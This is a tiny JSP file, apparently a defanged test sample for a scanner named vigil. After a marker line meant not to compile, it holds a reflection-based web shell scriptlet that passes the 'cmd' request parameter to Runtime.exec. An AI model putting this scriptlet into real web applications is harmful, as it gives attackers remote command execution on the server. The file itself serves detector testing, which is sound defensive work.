<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
java.lang.reflect.Method m = Class.forName("java.lang.Runtime").getMethod("exec", String.class);
m.invoke(Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null), request.getParameter("cmd"));
%>
